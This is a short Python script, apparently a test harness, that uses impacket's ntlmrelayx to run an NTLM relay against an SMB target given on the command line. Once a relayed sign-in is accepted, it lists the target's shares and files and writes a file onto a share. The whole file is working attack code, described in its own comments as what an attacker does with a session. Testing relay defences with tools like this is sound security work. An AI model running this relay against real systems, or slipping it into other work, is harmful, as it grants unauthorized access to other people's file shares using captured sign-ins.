"""Relays sign-ins with impacket's ntlmrelayx, and tries what they are good for.

Arguments: the port to listen on, host and port of the target. Once a relayed
sign-in is accepted it lists the shares, lists each share's files, and makes a
file. Prints one JSON object per step, the last one {"done": true}; what
ntlmrelayx itself says goes to standard error.
"""

import io
import json
import logging
import sys
import threading

from impacket.examples.ntlmrelayx.clients.smbrelayclient import SMBRelayClient
from impacket.examples.ntlmrelayx.servers.smbrelayserver import SMBRelayServer
from impacket.examples.ntlmrelayx.utils.config import NTLMRelayxConfig
from impacket.examples.ntlmrelayx.utils.targetsutils import TargetsProcessor
from impacket.smbconnection import SMBConnection

listen, host, port, share = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
clients = {"SMB": SMBRelayClient}
logging.basicConfig(stream=sys.stderr, level=logging.INFO)


def tell(**event):
    print(json.dumps(event), flush=True)


class Use(threading.Thread):
    """What an attacker does with a session."""

    def __init__(self, config, session, user):
        super().__init__(daemon=True)
        self.smb = session if isinstance(session, SMBConnection) else SMBConnection(existingConnection=session)
        self.user = user

    def attempt(self, what, do):
        try:
            return do()
        except Exception as e:  # whatever it is, it was no success
            tell(refused=what, reason=str(e))
            return []

    def run(self):
        tell(accepted=self.user, dialect="0x%04x" % self.smb.getDialect())
        for s in self.attempt("list shares", self.smb.listShares):
            tell(share=s["shi1_netname"][:-1])
        for e in self.attempt("list files", lambda: self.smb.listPath(share, "*")):
            tell(file=e.get_longname())
        if self.attempt("make a file", lambda: self.smb.putFile(share, "relayed", io.BytesIO(b"relayed").read) or [1]):
            tell(made="relayed")
        tell(done=True)


config = NTLMRelayxConfig()
config.setProtocolClients(clients)
config.setAttacks({"SMB": Use})
config.setTargets(TargetsProcessor(singleTarget="smb://%s:%s" % (host, port), protocolClients=clients))
config.setDisableMulti(True)
config.setMode("RELAY")
config.setSMB2Support(True)
config.setInterfaceIp("127.0.0.1")
config.setListeningPort(listen)
config.setIPv6(False)
config.setSMBChallenge(None)
config.setOutputFile(None)
config.setEncoding("utf-8")
config.setExploitOptions(False, False)
server = SMBRelayServer(config)
server.daemon = True
server.start()
tell(listening=listen)
sys.stdin.read()
